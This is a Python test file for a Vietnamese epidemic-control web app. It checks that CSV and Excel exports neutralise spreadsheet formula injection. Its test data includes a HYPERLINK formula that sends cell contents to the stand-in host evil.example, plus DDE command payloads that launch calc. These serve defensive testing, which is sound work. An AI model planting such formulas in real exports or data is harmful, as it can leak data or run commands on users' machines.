"""Exports opened in a spreadsheet never run a formula that came from the data."""

import csv
import io
from datetime import date

from phongdich.core.exports import csv_writer, safe_cell
from phongdich.people.services import person_create

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def test_text_starting_like_a_formula_is_made_inert_and_numbers_stay_numbers():
    assert [safe_cell(text) for text in ("=1+1", "+84912345678", "-2", "@SUM(A1)", "\tx", "\rx")] == [
        "'=1+1", "'+84912345678", "'-2", "'@SUM(A1)", "'\tx", "'\rx",
    ]  # fmt: skip
    assert [safe_cell(value) for value in (-4, -4.5, "Nguyễn Thị Hằng", "", None)] == [
        -4, -4.5, "Nguyễn Thị Hằng", "", None,
    ]  # fmt: skip


def test_the_csv_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    csv_writer(out).writerows([["=cmd|' /C calc'!A0", 3], ["Lê Văn Hùng", -3]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=cmd|' /C calc'!A0", "3"], ["Lê Văn Hùng", "-3"]]


def test_a_person_named_like_a_formula_is_exported_as_text(client_as, world):
    officer = world.user("commune_officer")
    person_create(actor=officer, full_name=HOSTILE, birth_date=date(1990, 3, 4), unit=world.unit("25966-01"))
    response = client_as("commune_officer").get("/persons/export.csv")
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    names = [row[1] for row in csv.reader(io.StringIO(body))]
    assert "'" + HOSTILE in names and HOSTILE not in names


def test_a_priority_list_export_writes_a_hostile_address_as_text(client_as, world):
    person_create(
        actor=world.user("district_officer"),
        full_name="Trịnh Văn Sáu",
        birth_date=date(1950, 1, 2),
        unit=world.unit("25963-01"),
        address="@SUM(1+9)*cmd|' /C calc'!A0",
    )
    response = client_as("province_commander").get(f"/vaccination/units/{world.unit('25963').pk}/priority/?format=csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert [row[4] for row in rows if row[2] == "Trịnh Văn Sáu"] == ["'@SUM(1+9)*cmd|' /C calc'!A0"]


def test_an_excel_workbook_keeps_numbers_makes_formulas_inert_and_widens_long_headers():
    from openpyxl import load_workbook

    from phongdich.core.exports import xlsx_download

    answer = xlsx_download(
        "giuong-benh.xlsx",
        [
            (
                "Cơ sở",
                ["Cơ sở", "Giường hồi sức tích cực (có máy thở): trống"],
                [[HOSTILE, 12], ["Bệnh viện Quốc tế Becamex", 0]],
            )
        ],
    )
    sheet = load_workbook(io.BytesIO(answer.content)).worksheets[0]
    assert list(sheet.iter_rows(values_only=True)) == [
        ("Cơ sở", "Giường hồi sức tích cực (có máy thở): trống"),
        ("'" + HOSTILE, 12),
        ("Bệnh viện Quốc tế Becamex", 0),
    ]
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["B"].width > sheet.column_dimensions["A"].width
